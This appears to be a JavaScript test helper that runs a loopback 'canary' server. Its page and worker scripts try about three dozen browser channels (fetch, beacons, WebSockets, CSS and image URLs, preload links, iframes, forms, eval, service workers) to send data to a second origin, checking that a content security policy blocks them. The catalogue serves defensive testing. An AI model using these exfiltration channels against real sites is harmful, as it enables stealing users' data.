/** A second origin that nothing may ever reach, and a script that tries every way to reach it. */

import { createServer } from "node:http";

/**
 * Listens on another loopback port and notes what arrives, over HTTP and WebSocket.
 *
 * @returns {Promise<{ origin: string, hits: string[], close: () => Promise<void> }>}
 */
export async function startCanary() {
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" });
    response.end("0");
  });
  server.on("upgrade", (request, socket) => {
    hits.push(`WS ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined)));
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    hits,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve(undefined));
        server.closeAllConnections();
      }),
  };
}

/**
 * Runs inside the page: tries to send something to the canary on every way a page has. Self-contained, as it is sent to
 * the browser as text. WebRTC and navigation of the page itself are not among them: no policy stops these, which is why
 * the release gate looks for them in the built files.
 *
 * @param {string} canary
 */
export async function attackFromPage(canary) {
  const ws = canary.replace("http", "ws");
  const add = (name, attributes, parent = document.body) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element[key] = value;
    parent.append(element);
    return element;
  };
  const link = (rel, more = {}) => add("link", { rel, href: `${canary}/link-${rel}`, ...more }, document.head);
  const attempts = [
    () => fetch(`${canary}/fetch`, { mode: "no-cors" }),
    () => fetch(`${canary}/fetch-post`, { mode: "no-cors", method: "POST", body: "secret" }),
    () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${canary}/xhr`);
      request.send();
    },
    () => navigator.sendBeacon(`${canary}/beacon`, "secret"),
    () => new WebSocket(`${ws}/socket`),
    () => new EventSource(`${canary}/events`),
    () => (new Image().src = `${canary}/image.png`),
    () => (new Image().srcset = `${canary}/srcset.png 1x`),
    () => (document.body.style.backgroundImage = `url(${canary}/background.png)`),
    () => (document.body.style.cursor = `url(${canary}/cursor.png), auto`),
    () => link("stylesheet"),
    () => link("prefetch"),
    () => link("preload", { as: "script" }),
    () => link("modulepreload"),
    () => link("icon"),
    () => link("manifest"),
    () => add("iframe", { src: `${canary}/iframe` }),
    () => add("object", { data: `${canary}/object`, type: "text/html" }),
    () => add("embed", { src: `${canary}/embed`, type: "text/html" }),
    () => add("script", { src: `${canary}/script.js` }),
    () => add("video", { src: `${canary}/video.mp4`, preload: "auto" }).load(),
    () => add("audio", { src: `${canary}/audio.mp3`, preload: "auto" }).load(),
    () => add("form", { action: `${canary}/form`, target: "_blank" }).submit(),
    () => add("a", { href: "#attack", ping: `${canary}/ping` }).click(),
    () => import(`${canary}/import.js`),
    () => new FontFace("canary", `url(${canary}/font.woff2)`).load(),
    () => navigator.serviceWorker.register(`${canary}/service-worker.js`),
    () => new Worker(`${canary}/worker.js`),
    () => window.open(`${canary}/popup`),
  ];
  for (const attempt of attempts) {
    // A refusal may be thrown, rejected or silent: only what arrives at the canary counts.
    try {
      await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 150))]);
    } catch {}
  }
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return attempts.length;
}

/**
 * The same from inside a worker.
 *
 * @param {string} canary
 */
export async function attackFromWorker(canary) {
  const attempts = [
    () => fetch(`${canary}/worker-fetch`, { mode: "no-cors" }),
    () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${canary}/worker-xhr`);
      request.send();
    },
    () => new WebSocket(`${canary.replace("http", "ws")}/worker-socket`),
    () => new EventSource(`${canary}/worker-events`),
    () => import(`${canary}/worker-import.js`),
    () => new Worker(`${canary}/worker-worker.js`, { type: "module" }),
    () => (0, eval)(`fetch("${canary}/worker-eval", { mode: "no-cors" })`),
  ];
  for (const attempt of attempts) {
    try {
      await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 150))]);
    } catch {}
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  return attempts.length;
}
